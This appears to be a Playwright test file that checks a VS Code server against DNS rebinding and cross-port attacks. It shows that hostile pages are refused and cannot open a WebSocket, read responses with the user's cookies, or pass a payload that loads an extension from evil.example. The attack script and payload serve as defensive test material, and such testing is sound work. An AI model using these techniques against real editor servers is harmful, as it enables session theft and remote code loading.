import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { chromium, expect, test as base, type Browser, type BrowserContext } from '@playwright/test';
import { browserSwitches, findBrowser } from '../../../scripts/browser.mjs';
import { vsix } from '../../../scripts/places.mjs';
import { startUserServer, type Server as VscodeServer } from '../../../scripts/server-process.mjs';

interface Worker {
  /** The server as `npm start -- --server` starts it. */
  readonly server: VscodeServer;
  /** A browser in which `evil.example` leads to this computer: the effect of DNS rebinding. */
  readonly rebound: Browser;
  /** A web site that is served on another port of this computer. */
  readonly site: { readonly port: number };
}

const test = base.extend<{ readonly victim: BrowserContext }, Worker>({
  server: [
    async ({}, use) => {
      const server = await startUserServer({ vsix });
      try {
        await use(server);
      } finally {
        await server.stop();
      }
    },
    { scope: 'worker', timeout: 120_000 },
  ],
  rebound: [
    async ({}, use) => {
      const rules = '--host-resolver-rules=MAP evil.example 127.0.0.1';
      const executablePath = findBrowser();
      const browser = await chromium.launch({
        ...(executablePath === undefined ? {} : { executablePath }),
        args: [...browserSwitches, rules],
      });
      await use(browser);
      await browser.close();
    },
    { scope: 'worker' },
  ],
  site: [
    async ({}, use) => {
      const site: Server = createServer((_, response) => response.end('<!doctype html><title>evil</title>'));
      await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve));
      await use({ port: (site.address() as AddressInfo).port });
      site.closeAllConnections();
      site.close();
    },
    { scope: 'worker' },
  ],
  // The browser of a user who has VS Code open, and therefore its cookie.
  victim: async ({ rebound, server }, use) => {
    const folder = mkdtempSync(join(tmpdir(), 'aml-victim-'));
    const context = await rebound.newContext();
    const page = await context.newPage();
    await page.goto(server.address({ folder }));
    await expect(page.getByText('Restricted Mode', { exact: true }).first()).toBeVisible({ timeout: 60_000 });
    expect(page.url()).not.toContain('tkn');
    await use(context);
    await context.close();
    rmSync(folder, { recursive: true, force: true });
  },
});

/** In a page: whether a WebSocket to the server opens, and the response to a request with the browser's cookies. */
const tries = `(async (address) => {
  const socket = await new Promise((resolve) => {
    const one = new WebSocket(address.replace('http', 'ws') + '/stable-x?reconnectionToken=x');
    one.onopen = () => resolve('open');
    one.onerror = () => resolve('refused');
  });
  const read = await fetch(address + '/', { credentials: 'include' }).then(
    async (response) => response.status + ' ' + (await response.text()).slice(0, 20),
    () => 'refused',
  );
  return [socket, read];
})`;

test('a page whose name resolves to this computer (DNS rebinding) gets nothing from an open VS Code, even with its address', async ({
  victim,
  server,
  site,
}) => {
  const { port, search } = new URL(server.address());
  for (const query of ['', search]) {
    // A separate page: a response without a body shows the browser's error page, which comes later.
    const page = await victim.newPage();
    const response = page.waitForEvent('response');
    await page.goto(`http://evil.example:${port}/${query}`).catch(() => undefined);
    expect((await response).status()).toBe(403);
  }
  const evil = await victim.newPage();
  await evil.goto(`http://evil.example:${site.port}/`);
  const rebound = `${tries}(${JSON.stringify(`http://evil.example:${port}`)})`;
  expect(await evil.evaluate(rebound)).toEqual(['refused', 'refused']);
  const direct = `${tries}(${JSON.stringify(server.origin)})`;
  expect(await evil.evaluate(direct)).toEqual(['refused', 'refused']);
});

test('a page of another port of this computer, to which the browser also sends the cookie, doesn’t reach VS Code and opens no link in it', async ({
  victim,
  server,
  site,
}) => {
  const evil = await victim.newPage();
  await evil.goto(`http://127.0.0.1:${site.port}/`);
  expect(await evil.evaluate(`${tries}(${JSON.stringify(server.origin)})`)).toEqual(['refused', 'refused']);
  const response = evil.waitForEvent('response');
  const payload = encodeURIComponent('[["extensionDevelopmentPath","https://evil.example/extension"]]');
  await evil.evaluate(`void (location.href = ${JSON.stringify(`${server.origin}/?payload=${payload}`)})`);
  expect((await response).status()).toBe(403);
});

test('a browser without the address gets nothing', async ({ rebound, server }) => {
  const page = await rebound.newPage();
  for (const path of ['/', '/healthz', '/login', '/?tkn=x']) {
    const response = page.waitForEvent('response');
    await page.goto(`${server.origin}${path}`).catch(() => undefined);
    expect((await response).status()).toBe(401);
  }
  await page.close();
});
